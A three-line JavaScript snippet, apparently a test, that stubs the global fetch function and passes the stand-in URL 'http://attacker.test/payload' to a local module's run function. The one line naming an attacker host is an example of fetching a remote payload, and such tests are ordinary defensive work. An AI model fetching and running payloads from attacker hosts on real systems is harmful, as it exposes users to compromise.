global.fetch = () => Promise.resolve({ ok: true });
const mod = require('./a.js');
mod.run('http://attacker.test/payload');
